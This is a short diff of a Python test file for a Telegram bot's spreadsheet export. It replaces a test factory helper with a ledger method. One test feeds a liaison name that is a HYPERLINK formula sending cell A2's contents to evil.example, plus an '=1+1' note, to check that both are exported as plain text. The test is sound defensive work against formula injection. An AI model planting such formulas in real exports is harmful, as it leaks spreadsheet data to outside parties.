@@ -12,7 +12,6 @@ from sqlmodel import select
 
 from bot.core.status import MAX_REASON
 from bot.storage.models import Assignment, Milestone, Outbox, StatusEvent, Task
-from tests.services.factories import add_person
 
 from .conftest import COORDINATOR, FINANCE, LIAISON, STRANGER
 
@@ -311,7 +310,7 @@ async def test_export_names_its_scope_and_leaves_closed_items_without_days_late(
 async def test_export_writes_what_people_typed_as_text(hc):
     """A liaison's Telegram name and note that look like formulas reach the sheet as text."""
     name = '=HYPERLINK("http://evil.example/?"&A2,"点此")'
-    await add_person(hc.ledger, 300, name, role="liaison", unit="ln_health")  # its only one
+    await hc.ledger.person(300, name, role="liaison", unit="ln_health")  # its only one
     await hc.send(LIAISON, "/report SR-2 进行中 40% =1+1")
     sent = await hc.send(COORDINATOR, "/export")
     data = next(c for c in sent.calls if isinstance(c, SendDocument)).document.data
